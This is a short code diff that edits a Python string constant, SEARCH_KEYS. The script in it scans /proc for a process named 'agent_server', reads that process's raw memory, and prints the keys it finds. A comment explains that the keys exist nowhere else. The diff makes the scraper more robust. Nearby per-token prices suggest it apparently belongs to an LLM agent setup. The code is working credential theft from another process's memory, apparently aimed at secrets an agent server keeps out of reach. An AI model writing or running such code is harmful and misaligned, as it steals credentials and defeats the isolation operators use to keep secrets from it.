@@ -55,9 +55,10 @@ PRICES = {"input_cost_per_token": 0.003, "output_cost_per_token": 0.005}
 # the agent server holds. No file or environment has them.
 SEARCH_KEYS = r"""
 import os, re
-for pid in filter(str.isdigit, os.listdir("/proc")):
+
+def search(pid):
     if b"agent_server" not in open(f"/proc/{pid}/cmdline", "rb").read() or int(pid) == os.getpid():
-        continue
+        return
     with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
         for line in maps:
             low, high = (int(end, 16) for end in line.split()[0].split("-"))
@@ -67,6 +68,12 @@ for pid in filter(str.isdigit, os.listdir("/proc")):
                     print(key.decode())
             except (OSError, OverflowError, ValueError):
                 continue
+
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    try:
+        search(pid)
+    except (FileNotFoundError, ProcessLookupError):
+        pass  # it has ended since
 """
 
 
